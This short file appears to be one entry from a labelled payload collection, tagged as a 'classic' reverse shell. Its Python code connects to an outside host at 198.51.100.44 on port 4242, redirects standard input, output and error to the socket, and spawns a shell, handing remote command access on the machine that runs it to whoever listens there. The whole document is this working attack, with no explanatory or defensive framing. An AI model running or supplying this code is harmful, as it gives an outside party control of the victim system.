# class: reverse shell; style: the classic with dup2
import os,pty,socket
s=socket.socket();s.connect(("198.51.100.44",4242))
for f in range(3):os.dup2(s.fileno(),f)
pty.spawn("sh")
